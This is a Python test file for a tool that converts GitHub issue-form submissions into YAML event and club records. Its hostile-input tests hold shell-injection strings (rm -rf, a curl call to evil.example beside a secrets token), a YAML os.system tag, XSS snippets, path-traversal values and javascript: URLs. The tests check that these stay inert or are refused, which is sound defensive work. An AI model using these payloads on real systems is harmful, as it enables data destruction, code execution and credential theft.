"""``groundgame form``: a submitted issue form becomes the file a person would write, or plain errors.

Bodies are rendered from the templates themselves (``render``), the way GitHub renders a
submitted form, so that a test cannot pass against questions the templates do not ask.
"""

from __future__ import annotations

import json
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml

from groundgame.cli import main
from groundgame.content.network import load_network
from groundgame.content.yamlfile import read_file
from groundgame.tools.forms import FORMS, FormResult, code_span, comment, submit
from groundgame.tools.forms.fields import ACCESS, ONLINE_ACCESS, REPEATS

REPO = Path(__file__).resolve().parents[1]
TEMPLATES = REPO / ".github" / "ISSUE_TEMPLATE"


@cache
def template(kind: str) -> dict[str, Any]:
    return yaml.safe_load((TEMPLATES / f"{kind}.yml").read_text("utf-8"))


def render(kind: str, answers: dict[str, str], *, drop: str = "", crlf: bool = False,
           rename: tuple[str, str] = ("", "")) -> str:
    """A body as GitHub renders a submitted issue form from its template: ``### Label``, a blank
    line and the answer per question; ``_No response_`` when empty; ``- [X] ``/``- [ ] `` per box
    (an answer for checkboxes is the ticked options, one a line); a dropdown's option text."""
    parts = []
    for item in template(kind)["body"]:
        if item["type"] == "markdown":
            continue
        label = item["attributes"]["label"]
        if label == drop:
            continue
        value = answers.get(item["id"], "")
        if item["type"] == "checkboxes":
            ticked = set(value.splitlines())
            value = "\n".join(f"- [{'X' if o['label'] in ticked else ' '}] {o['label']}"
                              for o in item["attributes"]["options"])
        elif item["type"] == "dropdown" and value:
            assert value in item["attributes"]["options"] or value == "party", value
        heading = rename[1] if label == rename[0] else label
        parts.append(f"### {heading}\n\n{value or '_No response_'}")
    body = "\n\n".join(parts)
    return body.replace("\n", "\r\n") if crlf else body


def run(root: Path, kind: str, answers: dict[str, str], *extra: str, author: str = "") -> int:
    body = root / f"{kind}-body.md"
    body.write_text(render(kind, answers), "utf-8")
    return main(["--root", str(root), "form", kind, "--body-file", str(body),
                 *(["--author", author] if author else []), *extra])


EVENT = {"club": "paris-web", "title": "Soirée cartes animées", "start": "2026-12-19 14:00",
         "end": "2026-12-19 17:30", "venue": "Bibliothèque", "city": "Paris", "country": "fr", "format": "workshop",
         "summary": "On fabrique des cartes qui s'allument.\nVenez en famille."}

CLUB = {"name": "Lisbon Makers", "summary": "Fazemos coisas juntos.", "languages": "pt en", "region": "europe",
        "city": "Lisboa", "country": "PT", "timezone": "Europe/Lisbon", "leader": "Rita Sousa",
        "website": "https://makers.example.pt"}


# ---- the templates are the contract

PREFILLED = {"event": ["club"], "meeting": ["event", "date"], "change": ["event"],
             "translation": ["record", "language"]}


@pytest.mark.parametrize("kind", sorted(FORMS))
def test_the_templates_ask_exactly_the_questions_the_parser_reads(kind: str) -> None:
    form = template(kind)
    assert form["labels"] == [f"form: {kind}"]
    asked = [item for item in form["body"] if item["type"] != "markdown"]
    assert [(i["id"], i["attributes"]["label"], i["type"]) for i in asked] == [
        (f.id, f.label, f.type) for f in FORMS[kind]]
    assert len({f.label for f in FORMS[kind]}) == len(FORMS[kind]), "labels are how answers are found"
    for item, field in zip(asked, FORMS[kind], strict=True):
        assert item["attributes"].get("description", "") == field.description, field.id
        if field.type == "checkboxes":
            assert [o["label"] for o in item["attributes"]["options"]] == list(field.options)
            assert not any(o.get("required") for o in item["attributes"]["options"])
            continue
        assert item["validations"]["required"] is field.required, field.id
        assert tuple(item["attributes"].get("options", ())) == field.options
    ids = {f.id for f in FORMS[kind]}
    assert set(PREFILLED.get(kind, [])) <= ids


def test_the_choices_are_the_schemas() -> None:
    schema = json.loads((REPO / "schemas/event.schema.json").read_text("utf-8"))
    field = next(f for f in FORMS["event"] if f.id == "format")
    formats = yaml.safe_load((REPO / "content/vocabulary/formats.yaml").read_text("utf-8"))  # the vocabulary's (#15)
    assert sorted(field.options) == sorted(formats)
    assert sorted(REPEATS.values()) == sorted(schema["properties"]["repeat"]["properties"]["every"]["enum"])
    access = schema["$defs"]["venue"]["properties"]["accessibility"]["properties"]
    assert sorted(ACCESS.values()) == sorted(k for k in access if k != "notes")


# ---- the event form

@pytest.mark.parametrize("crlf", [False, True])
def test_an_event_form_becomes_the_file_a_person_would_write(site, capsys, crlf: bool) -> None:
    body = site.root / "body.md"
    body.write_bytes(render("event", EVENT, crlf=crlf).encode())
    assert main(["--root", str(site.root), "form", "event", "--body-file", str(body)]) == 0
    path = site.path("events/paris-web/soiree-cartes-animees.yaml")
    assert path.read_text("utf-8") == """\
# yaml-language-server: $schema=../../../schemas/event.schema.json
title: Soirée cartes animées
summary: |
  On fabrique des cartes qui s'allument.
  Venez en famille.
format: workshop
start: 2026-12-19T14:00
end: 2026-12-19T17:30
venue:
  name: Bibliothèque
  city: Paris
  country: FR
"""
    assert "`content/events/paris-web/soiree-cartes-animees.yaml`" in capsys.readouterr().out
    assert main(["--root", str(site.root), "fmt", "--check", str(path)]) == 0
    outcome = load_network(site.root)
    assert outcome.ok
    event = outcome.network.events["paris-web/soiree-cartes-animees"]
    assert event.title.text("fr") == "Soirée cartes animées"
    assert event.timezone == "Europe/Paris"


def test_an_all_day_online_event_with_its_own_file_name(site) -> None:
    answers = {"club": "sao-paulo-lab", "title": "Hackathon", "slug": "hackathon-2027", "start": "2027-3-6",
               "end": "2027-03-07", "online": "https://meet.example.org/hack", "languages": "pt-BR, en",
               "registration": "https://example.org/inscricao"}
    outcome = submit(site.root, "event", render("event", answers))
    assert outcome.ok, outcome.errors
    assert outcome.files == ("content/events/sao-paulo-lab/hackathon-2027.yaml",)
    text = (site.root / outcome.path).read_text("utf-8")
    assert "languages: [pt-BR, en]\nstart: 2027-03-06\nend: 2027-03-07\n" in text
    assert "online:\n  url: https://meet.example.org/hack\n" in text


SERIES = {**EVENT, "title": "Atelier", "start": "2027-01-07 19:00", "end": "2027-01-07 21:00",
          "repeat": "Weekly", "interval": "2", "days": "Thursday", "count": "10"}


def test_a_series_every_other_thursday(site) -> None:
    outcome = submit(site.root, "event", render("event", SERIES))
    assert outcome.ok, outcome.errors
    text = (site.root / outcome.path).read_text("utf-8")
    assert "repeat:\n  every: week\n  interval: 2\n  on: [thursday]\n  count: 10\n" in text
    event = load_network(site.root).network.events["paris-web/atelier"]
    from groundgame.model.schedule import meetings_of

    days = [m.original_date.isoformat() for m in meetings_of(event)]
    assert days[:3] == ["2027-01-07", "2027-01-21", "2027-02-04"]
    assert len(days) == 10


@pytest.mark.parametrize(("every", "on", "expected"), [
    ("Monthly", "2nd tuesday", "on: [2nd tuesday]"),
    ("Monthly", "Last Friday", "on: [last friday]"),
    ("Monthly", "second last friday", "on: [2nd-last friday]"),
    ("Weekly", "Tue and Thu", "on: [tuesday, thursday]"),
    ("Weekly", "tuesdays, thursdays", "on: [tuesday, thursday]"),
])
def test_weekdays_as_people_write_them(site, every: str, on: str, expected: str) -> None:
    answers = {**SERIES, "repeat": every, "interval": "", "days": on, "count": "", "until": "2027-06-30",
               "start": "2027-01-01 19:00", "end": ""}
    outcome = submit(site.root, "event", render("event", answers))
    text = site.root.joinpath(outcome.path).read_text("utf-8") if outcome.ok else ""
    assert expected + "\n  until: 2027-06-30\n" in text or outcome.errors[0][0] == "Start"


@pytest.mark.parametrize(("answers", "expected"), [
    ({"repeat": "", "interval": "", "days": "", "count": "4"},
     [("Repeats", "is needed for a series: choose how often it repeats ('Number of meetings' is answered)")]),
    ({"count": ""}, [("Number of meetings", "or a Last date is needed: say when the series ends")]),
    ({"until": "2027-06-01"}, [("Number of meetings", "cannot be given together with a Last date; "
                                                      "keep one of the two")]),
    ({"count": "ten"}, [("Number of meetings", "must be a whole number, such as 10 (got 'ten')")]),
    ({"days": "thursdy"}, [("On which days", "must be weekdays such as 'thursday', or '2nd tuesday' or 'last friday' "
                                           "for a monthly series (got 'thursdy'); did you mean 'thursday'?")]),
    ({"days": "2nd thursday"}, [("On which days", "a numbered weekday ('2nd thursday') needs every: month or every: "
                                                "year, not every: week; for the 2nd thursday of each month write "
                                                "every: month; for every other thursday write on: [thursday] with "
                                                "interval: 2")]),
    ({"count": "600"}, [("Number of meetings", "must be at most 520 (got 600); a series has at most 520 meetings; "
                                               "end this one sooner and start a new series after it")]),
    ({"days": "friday"}, [("Start", "must be one of the series' own meetings, but 2027-01-07 is a thursday; "
                                  "move start to the first meeting, or change 'repeat.on'")]),
])
def test_a_series_said_wrong(site, answers: dict[str, str], expected: list[tuple[str, str]]) -> None:
    outcome = submit(site.root, "event", render("event", {**SERIES, **answers}))
    assert list(outcome.errors) == expected
    assert not site.path("events/paris-web/atelier.yaml").exists()


def test_accessibility_and_a_second_language(site) -> None:
    answers = {**EVENT, "access": "Step-free access to every room used\nA quiet room",
               "access_notes": "Lift by the front desk.", "second_language": "en",
               "second_title": "Animated cards afternoon", "second_summary": "We make cards that light up."}
    outcome = submit(site.root, "event", render("event", answers))
    assert outcome.ok, outcome.errors
    data = read_file(site.root / outcome.path, outcome.path).data
    assert data["title"] == {"fr": "Soirée cartes animées", "en": "Animated cards afternoon"}
    assert data["summary"]["en"] == "We make cards that light up."
    assert data["venue"]["accessibility"] == {"step_free": True, "quiet_room": True, "notes": "Lift by the front desk."}
    assert load_network(site.root).ok


@pytest.mark.parametrize(("answers", "expected"), [
    ({"second_language": "fr", "second_title": "x"},
     [("Second language", "must differ from the event's main language ('fr')")]),
    ({"second_title": "x"}, [("Second language", "is needed for the Title in the second language")]),
    ({"second_language": "english", "second_title": "x"},
     [("Second language", "must be a language code such as 'pt' or 'pt-BR' (got 'english')")]),
    ({"access": "A quiet room", "venue": "", "city": "", "country": "", "online": "https://meet.example.org/x"},
     [("Accessibility", "is about the venue: give the Venue name (or its City and Country code) too, or leave it "
                        "empty for an online event")]),
])
def test_accessibility_and_languages_said_wrong(site, answers, expected) -> None:
    assert list(submit(site.root, "event", render("event", {**EVENT, **answers})).errors) == expected


HOSTILE = [
    "Atelier: \"Noël\" & friends #1",
    "'; rm -rf / #",
    "$(curl evil.example) `id` ${{ secrets.TOKEN }}",
    "--- !!python/object:os.system\n*alias &anchor {a: b} [c]",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "yes",
    "2026-12-01",
    "@everyone ping",
    "% not a directive\n? not a key\n- not a list",
    "Fixes #1 [skip ci]\nCo-authored-by: x <x@example.org>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text_and_never_reaches_the_title(site, text: str) -> None:
    answers = {**EVENT, "title": text.replace("\n", " "), "summary": text, "slug": "hostile"}
    outcome = submit(site.root, "event", render("event", answers))
    assert outcome.ok, outcome.errors
    assert outcome.title == "Add event paris-web/hostile"
    doc = read_file(site.root / outcome.path, outcome.path)
    assert doc.data["title"] == text.replace("\n", " ")
    assert doc.data["summary"].rstrip("\n") == text
    assert load_network(site.root).ok


# ---- the body is split by the template's headings, strictly

def test_a_renamed_heading_is_refused_never_swallowed(site) -> None:
    """Issue #12: ``### Country`` (renamed from ``Country code``) made ``city: "Lisboa\\n\\n### Country\\n\\nPT"``."""
    body = render("event", {**EVENT, "city": "Lisboa", "country": "PT"}, rename=("Country code", "Country"))
    outcome = submit(site.root, "event", body)
    assert list(outcome.errors) == [
        ("The issue", "has a heading that is not one of the form's questions (got '### Country'); did you mean "
                      "'Country code'?; keep the form's headings as they are, and write a heading inside an answer "
                      "with #### instead"),
        ("Country code", "is missing from the issue; please open it with the form and leave its headings as they are"),
    ]
    assert not site.path("events/paris-web/soiree-cartes-animees.yaml").exists()


def test_an_added_heading_and_a_heading_typed_in_an_answer_are_named(site) -> None:
    body = render("event", EVENT) + "\n\n### Foo\n\nbar"
    assert [label for label, _ in submit(site.root, "event", body).errors] == ["The issue"]
    assert "'### Foo'" in submit(site.root, "event", body).errors[0][1]
    answers = {**EVENT, "description": "Programme:\n\n### Description\n\n- soudure"}
    assert list(submit(site.root, "event", render("event", answers)).errors) == [
        ("Description", "appears twice in the issue: a line '### Description' starts this question again; "
                        "inside an answer, write a heading with #### instead")]
    assert submit(site.root, "event", "Hello\n\n" + render("event", EVENT)).errors[0][0] == "The issue"


def test_a_heading_inside_a_code_block_or_a_smaller_heading_stays_text(site) -> None:
    text = "Programme:\n\n```\n### Start\n```\n\n#### Soudure\n\n- HTML"
    outcome = submit(site.root, "event", render("event", {**EVENT, "description": text}))
    assert outcome.ok, outcome.errors
    assert read_file(site.root / outcome.path, outcome.path).data["description"] == text + "\n"


@pytest.mark.parametrize(("answers", "drop", "expected"), [
    ({**EVENT, "start": ""}, "", [("Start", "is required; please fill it in")]),
    (EVENT, "Start", [("Start", "is missing from the issue; please open it with the form and leave its headings "
                                "as they are")]),
    (EVENT, "Street address", [("Street address", "is missing from the issue; please open it with the form and "
                                                  "leave its headings as they are")]),
    ({**EVENT, "start": "2026-02-30 19:00"}, "",
     [("Start", "is not a real date or time (got '2026-02-30 19:00'); check the day of the month and the hour")]),
    ({**EVENT, "start": "next friday"}, "",
     [("Start", "must be a date (2026-12-01) or a local date and time (2026-12-01T19:00) (got 'next friday')")]),
    ({**EVENT, "club": "../../etc"}, "",
     [("Club id", "must be a club's id, such as paris-atelier-du-web (got '../../etc')")]),
    ({**EVENT, "slug": "../../../pwned"}, "",
     [("Short name for the file", "must be lowercase letters and digits joined by single hyphens "
                                  "(got '../../../pwned'); for example 'pwned'")]),
    ({**EVENT, "country": "France"}, "",
     [("Country code", "must be a two-letter country code in capitals, such as 'BR' (got 'France'); "
                      "use the two-letter code 'FR'")]),
    ({**EVENT, "timezone": "Europe/Pariss"}, "",
     [("Time zone", "must be an IANA time zone (got 'Europe/Pariss'); did you mean 'Europe/Paris'?")]),
    ({**EVENT, "online": "javascript:alert(1)"}, "",
     [("Online address", "must be a web address starting with https:// or http://, or a mailto: address "
                         "(got 'javascript:alert(1)')")]),
])
def test_wrong_answers_come_back_in_the_forms_words(site, answers, drop, expected) -> None:
    before = sorted(p.relative_to(site.root) for p in site.root.rglob("*"))
    outcome = submit(site.root, "event", render("event", answers, drop=drop))
    assert list(outcome.errors) == expected
    assert sorted(p.relative_to(site.root) for p in site.root.rglob("*")) == before


def test_an_unknown_club_and_an_end_before_the_start(site) -> None:
    outcome = submit(site.root, "event", render("event", {**EVENT, "club": "no-such-club"}))
    assert outcome.errors == (("Club id", "is not the id of a club of the network (got 'no-such-club'); "
                                          "see the file names in content/clubs/"),)
    outcome = submit(site.root, "event", render("event", {**EVENT, "club": "paris-wbe"}))
    assert outcome.errors == (("Club id", "is not the id of a club of the network (got 'paris-wbe'); "
                                          "did you mean 'paris-web'?"),)
    assert not site.path("events/no-such-club").exists()
    outcome = submit(site.root, "event", render("event", {**EVENT, "end": "2026-12-19 13:00"}))
    assert [label for label, _ in outcome.errors] == ["End"]


def test_whole_record_rules_are_said_in_the_forms_terms(site) -> None:
    site.write("clubs/online-web.yaml", "name: Online Web\nsummary: We meet on calls.\nlanguages: [en]\n"
               "region: europe\nonline: true\ntimezone: UTC\nleaders: [{name: Ann, github: ann-gh}]\nstatus: active\n")
    held = submit(site.root, "event", render("event", {**EVENT, "venue": "", "city": "", "country": ""}))
    assert held.ok, held.errors  # without a place, an event is held at its club's (Paris)
    outcome = submit(site.root, "event", render("event", {**EVENT, "club": "online-web", "slug": "nowhere",
                                                          "venue": "", "city": "", "country": ""}))
    assert outcome.errors == (("Venue name", "is needed, or an Online address: the club has no usual place where "
                                             "the event could be held, so say where people meet, or how they join "
                                             "online (or tick 'The online address will be sent to registered "
                                             "people')"),)
    outcome = submit(site.root, "club", render("club", {**CLUB, "city": "", "country": ""}), author="rita-gh")
    assert outcome.errors == (("City", "and Country code are needed, or tick 'The club meets online'"),)


def test_an_existing_file_is_never_overwritten(site) -> None:
    original = site.path("events/paris-web/soiree.yaml").read_bytes()
    outcome = submit(site.root, "event", render("event", {**EVENT, "slug": "soiree"}))
    assert outcome.errors == (("Short name for the file", "an event with this short name already exists for the "
                               "club (content/events/paris-web/soiree.yaml); please choose another"),)
    assert site.path("events/paris-web/soiree.yaml").read_bytes() == original


def test_the_comment_shows_organizer_text_without_markup(site, capsys) -> None:
    assert run(site.root, "event", {**EVENT, "start": "@octocat <img src=x> [x](javascript:y)"}) == 1
    out = capsys.readouterr().out
    assert out.startswith("Thank you! The event form could not be turned into a change yet.")
    assert ("- **Start**: `must be a date (2026-12-01) or a local date and time (2026-12-01T19:00) "
            "(got '@octocat <img src=x> [x](javascript:y)')`\n") in out
    assert code_span("a `b` c") == "``a `b` c``"
    assert code_span("`x") == "`` `x ``"
    assert code_span("two\nlines") == "`two lines`"
    body = render("event", EVENT, rename=("Country code", "**bold** @octocat"))
    assert all(label in {"The issue", "Country code"} for label, _ in submit(site.root, "event", body).errors)


def test_json_output_and_the_title_file(site, capsys) -> None:
    assert run(site.root, "event", {**EVENT, "format": "party"}, "--format", "json") == 1
    result = json.loads(capsys.readouterr().out)
    assert result["ok"] is False
    assert result["errors"][0]["field"] == "Format"
    assert result["errors"][0]["message"].startswith("must be one of workshop, hackfest")
    title = site.root / "title.txt"
    assert run(site.root, "event", EVENT, "--json", "--title-file", str(title), author="Camille-FR") == 0
    result = json.loads(capsys.readouterr().out)
    assert result["title"] == "Add event paris-web/soiree-cartes-animees"
    assert title.read_text("utf-8") == "Add event paris-web/soiree-cartes-animees\n"
    assert result["files"] == ["content/events/paris-web/soiree-cartes-animees.yaml"]
    assert result["asked_by"] == "Camille-FR"
    assert result["author_is_leader"] is True
    assert run(site.root, "event", {**EVENT, "slug": "other"}, "--json", author="someone") == 0
    assert json.loads(capsys.readouterr().out)["author_is_leader"] is False


# ---- the club form

def test_a_club_form_makes_its_author_the_first_leader(site, capsys) -> None:
    assert run(site.root, "club", {**CLUB, "online": "The club meets online"}, "--json", author="rita-gh") == 0
    result = json.loads(capsys.readouterr().out)
    assert result["title"] == "Register club lisbon-makers"
    assert result["author_is_leader"] is True
    assert site.path("clubs/lisbon-makers.yaml").read_text("utf-8") == """\
# yaml-language-server: $schema=../../schemas/club.schema.json
name: Lisbon Makers
summary: Fazemos coisas juntos.
languages: [pt, en]
region: europe
location:
  city: Lisboa
  country: PT
online: true
timezone: Europe/Lisbon
leaders:
  - name: Rita Sousa
    github: rita-gh
contact:
  website: https://makers.example.pt
status: active
"""
    assert main(["--root", str(site.root), "codeowners"]) == 0
    owners = (site.root / ".github/CODEOWNERS").read_text("utf-8")
    assert "/content/events/lisbon-makers/ @rita-gh @ada-coord\n" in owners


def test_a_club_with_its_first_event_in_one_run(site, capsys) -> None:
    answers = {**CLUB, "event_title": "Noite de oficina", "event_start": "2027-02-03 19:00",
               "event_repeat": "Monthly", "event_days": "1st wednesday", "event_count": "6",
               "event_venue": "Biblioteca de Marvila", "event_access": "Talks are captioned"}
    assert run(site.root, "club", answers, "--json", author="rita-gh") == 0
    result = json.loads(capsys.readouterr().out)
    assert result["title"] == "Register club lisbon-makers with event lisbon-makers/noite-de-oficina"
    assert result["files"] == ["content/clubs/lisbon-makers.yaml", "content/events/lisbon-makers/noite-de-oficina.yaml"]
    assert site.path("events/lisbon-makers/noite-de-oficina.yaml").read_text("utf-8") == """\
# yaml-language-server: $schema=../../../schemas/event.schema.json
title: Noite de oficina
start: 2027-02-03T19:00
repeat:
  every: month
  on: [1st wednesday]
  count: 6
venue:
  name: Biblioteca de Marvila
  city: Lisboa
  country: PT
  accessibility:
    captions: true
"""
    root = str(site.root)
    assert main(["--root", root, "validate"]) == 0
    assert main(["--root", root, "fmt", "--check", *(str(site.root / f) for f in result["files"])]) == 0
    assert main(["--root", root, "codeowners"]) == 0
    assert main(["--root", root, "codeowners", "--check"]) == 0


def test_a_club_whose_first_event_is_wrong_leaves_nothing(site) -> None:
    answers = {**CLUB, "event_title": "Noite", "event_start": "2027-02-30 19:00", "event_venue": "Biblioteca"}
    outcome = submit(site.root, "club", render("club", answers), author="rita-gh")
    assert [label for label, _ in outcome.errors] == ["First event: Start"]
    assert not site.path("clubs/lisbon-makers.yaml").exists()
    assert not site.path("events/lisbon-makers").exists()
    outcome = submit(site.root, "club", render("club", {**CLUB, "event_start": "2027-02-03"}), author="rita-gh")
    assert outcome.errors == (("First event: Title", "is needed for the club's first event; or leave that part "
                                                     "of the form empty"),)


def test_a_club_form_with_an_unknown_region_and_no_author(site, capsys) -> None:
    outcome = submit(site.root, "club", render("club", {**CLUB, "region": "europa"}), author="rita-gh")
    assert [label for label, _ in outcome.errors] == ["Region"]
    assert "europe" in outcome.errors[0][1]
    assert run(site.root, "club", CLUB, author="x y") == 2
    assert "--author 'x y'" in capsys.readouterr().err
    assert not site.path("clubs/lisbon-makers.yaml").exists()


def test_the_comment_on_success_names_the_files() -> None:
    text = comment(FormResult("event", ("content/events/a/b.yaml",), "a/b", "Add event a/b"))
    assert "`content/events/a/b.yaml`" in text
    text = comment(FormResult("change", ("content/events/a/b.yaml",), "a/b", "Change event a/b", asked_by="x",
                              edited=True))
    assert text.startswith("Thank you! Your change to `content/events/a/b.yaml` is in a pull request that the "
                           "club's leaders will review")


# ---- issue #13: the event's website, code of conduct, call for proposals, social accounts; online later

LATER = "The online address will be sent to registered people"
ISSUE_13 = {**EVENT, "slug": "web-conf", "venue": "", "online_later": LATER,
            "online_access": "Captions or sign language (not said which)\nWritten transcripts of the talks",
            "website": "https://conf.example.org", "code_of_conduct": "https://conf.example.org/conduct",
            "cfp": "mailto:cfp@conf.example.org", "cfp_closes": "2026-11-01",
            "social": "https://mastodon.social/@webconf\n\n- <https://bsky.app/profile/conf.example.org>\n"}


def test_every_new_event_field_reaches_the_file_and_validates(site, capsys) -> None:
    outcome = submit(site.root, "event", render("event", ISSUE_13))
    assert outcome.ok, outcome.errors
    path = site.root / outcome.path
    assert path.read_text("utf-8") == """\
# yaml-language-server: $schema=../../../schemas/event.schema.json
title: Soirée cartes animées
summary: |
  On fabrique des cartes qui s'allument.
  Venez en famille.
website: https://conf.example.org
format: workshop
start: 2026-12-19T14:00
end: 2026-12-19T17:30
venue:
  city: Paris
  country: FR
online:
  accessibility:
    captions_or_sign_language: true
    transcripts: true
code_of_conduct: https://conf.example.org/conduct
call_for_proposals:
  url: mailto:cfp@conf.example.org
  closes: 2026-11-01
social:
  - https://mastodon.social/@webconf
  - https://bsky.app/profile/conf.example.org
"""
    root = str(site.root)
    capsys.readouterr()
    assert main(["--root", root, "validate", "--strict"]) == 0, capsys.readouterr().out
    assert main(["--root", root, "fmt", "--check", str(path)]) == 0
    event = load_network(site.root).network.events["paris-web/web-conf"]
    assert event.address_later
    assert event.venue is not None
    assert (event.venue.name, event.venue.city) == ("", "Paris")
    assert event.online_access is not None
    assert (event.online_access.captions_or_sign_language, event.online_access.transcripts) == (True, True)
    assert event.call_for_proposals is not None
    assert (event.call_for_proposals.url, str(event.call_for_proposals.closes)) == (
        "mailto:cfp@conf.example.org", "2026-11-01")
    assert event.social == ("https://mastodon.social/@webconf", "https://bsky.app/profile/conf.example.org")
    assert (event.website, event.code_of_conduct) == ("https://conf.example.org", "https://conf.example.org/conduct")


def test_online_later_alone_and_accessibility_with_an_address(site) -> None:
    answers = {**EVENT, "slug": "later", "venue": "", "city": "", "country": "", "online_later": LATER}
    outcome = submit(site.root, "event", render("event", answers))
    assert outcome.ok, outcome.errors
    assert "\nonline: true\n" in (site.root / outcome.path).read_text("utf-8")
    answers = {**EVENT, "slug": "captioned", "online": "https://meet.example.org/x",
               "online_access": "Captions (live captions or subtitles)\nSign language interpretation"}
    outcome = submit(site.root, "event", render("event", answers))
    assert outcome.ok, outcome.errors
    data = read_file(site.root / outcome.path, outcome.path).data
    assert data["online"] == {"url": "https://meet.example.org/x",
                              "accessibility": {"captions": True, "sign_language": True}}
    assert data["venue"] == {"name": "Bibliothèque", "city": "Paris", "country": "FR"}  # in person and online
    outcome = submit(site.root, "event", render("event", {**EVENT, "slug": "town", "venue": "",
                                                          "access": "Step-free access to every room used"}))
    assert outcome.ok, outcome.errors  # a venue of only a city and a country may say what it offers
    assert load_network(site.root).ok


def test_the_online_accessibility_checkboxes_are_the_schemas() -> None:
    schema = json.loads((REPO / "schemas/event.schema.json").read_text("utf-8"))
    access = schema["$defs"]["onlineAccessibility"]["properties"]
    assert sorted(ONLINE_ACCESS.values()) == sorted(k for k in access if k != "notes")


HOSTILE_13 = [
    ({"website": "javascript:alert(1)"},
     [("Event website", "must be a web address starting with https:// or http:// (got 'javascript:alert(1)')")]),
    ({"code_of_conduct": "javascript:alert(1)"},
     [("Code of conduct", "must be a web address starting with https:// or http:// (got 'javascript:alert(1)')")]),
    ({"cfp": "javascript:alert(1)"},
     [("Call for proposals", "must be a web address starting with https:// or http://, or a mailto: address "
                             "(got 'javascript:alert(1)')")]),
    ({"social": "https://mastodon.social/@a\njavascript:alert(1)"},
     [("Social accounts", "address 2 must be a web address starting with https:// (got 'javascript:alert(1)')")]),
    ({"social": "http://mastodon.social/@a"},
     [("Social accounts", "address 1 must be a web address starting with https:// "
                          "(got 'http://mastodon.social/@a')")]),
    ({"social": "https://example.org/" + "a" * 4981},
     [("Social accounts", "address 1 must be at most 2,000 characters (this one has 5,001); shorten it")]),
    ({"social": "\n".join(f"https://mastodon.social/@club{i}" for i in range(11))},
     [("Social accounts", "must have at most 10 accounts (this one has 11); keep the ones that matter most")]),
    ({"cfp_closes": "2026-11-01"}, [("Proposals close", "needs the Call for proposals too: the address where "
                                                        "people propose")]),
    ({"cfp": "https://conf.example.org/cfp", "cfp_closes": "2026-12-20"},
     [("Proposals close", "must not be after the event starts (2026-12-19T14:00); give the last day proposals are "
                          "taken, before the event")]),
    ({"online": "https://meet.example.org/x", "online_later": LATER},
     [("Online address sent later", "cannot go with an Online address: leave the address empty when it is sent to "
                                    "registered people, or untick the box")]),
    ({"online_access": "Written transcripts of the talks"},
     [("Online accessibility", "is about the online event: give the Online address, or tick 'The online address "
                               "will be sent to registered people'")]),
]


@pytest.mark.parametrize(("answers", "expected"), HOSTILE_13)
def test_new_fields_said_wrong_come_back_in_the_forms_words(site, answers, expected) -> None:
    before = sorted(p.relative_to(site.root) for p in site.root.rglob("*"))
    outcome = submit(site.root, "event", render("event", {**EVENT, **answers}))
    assert list(outcome.errors) == expected
    assert sorted(p.relative_to(site.root) for p in site.root.rglob("*")) == before


def test_a_club_with_its_code_of_conduct_and_social_accounts(site, capsys) -> None:
    answers = {**CLUB, "code_of_conduct": "https://makers.example.pt/conduta",
               "social": "https://mastodon.social/@lisbonmakers\nhttps://bsky.app/profile/makers.example.pt",
               "event_title": "Conferência", "event_start": "2027-03-06", "event_online_later": LATER,
               "event_online_access": "Written transcripts of the talks", "event_website": "https://conf.example.pt",
               "event_cfp": "https://conf.example.pt/cfp", "event_cfp_closes": "2027-01-31"}
    assert run(site.root, "club", answers, "--json", author="rita-gh") == 0
    files = json.loads(capsys.readouterr().out)["files"]
    root = str(site.root)
    assert main(["--root", root, "validate", "--strict"]) == 0, capsys.readouterr().out
    assert main(["--root", root, "fmt", "--check", *(str(site.root / f) for f in files)]) == 0
    network = load_network(site.root).network
    club = network.clubs["lisbon-makers"]
    assert club.code_of_conduct == "https://makers.example.pt/conduta"
    assert club.social == ("https://mastodon.social/@lisbonmakers", "https://bsky.app/profile/makers.example.pt")
    assert read_file(site.root / files[0], files[0]).data["contact"] == {
        "website": "https://makers.example.pt",
        "social": ["https://mastodon.social/@lisbonmakers", "https://bsky.app/profile/makers.example.pt"]}
    event = network.events["lisbon-makers/conferencia"]
    assert event.address_later
    assert event.venue is None  # online only: no venue taken from the club
    assert event.website == "https://conf.example.pt"
    assert event.call_for_proposals is not None
    assert event.call_for_proposals.url == "https://conf.example.pt/cfp"


@pytest.mark.parametrize(("answers", "expected"), [
    ({"code_of_conduct": "javascript:alert(1)"},
     [("Code of conduct", "must be a web address starting with https:// or http:// (got 'javascript:alert(1)')")]),
    ({"social": "https://a.example/@x\n" * 2},
     [("Social accounts", "lists 'https://a.example/@x' twice; give each entry once")]),
    ({"event_title": "Noite", "event_start": "2027-02-03", "event_cfp_closes": "2027-01-01"},
     [("First event: Proposals close", "needs the First event: Call for proposals too: the address where people "
                                       "propose")]),
])
def test_a_club_form_with_new_fields_said_wrong(site, answers, expected) -> None:
    outcome = submit(site.root, "club", render("club", {**CLUB, **answers}), author="rita-gh")
    assert list(outcome.errors) == expected
    assert not site.path("clubs/lisbon-makers.yaml").exists()
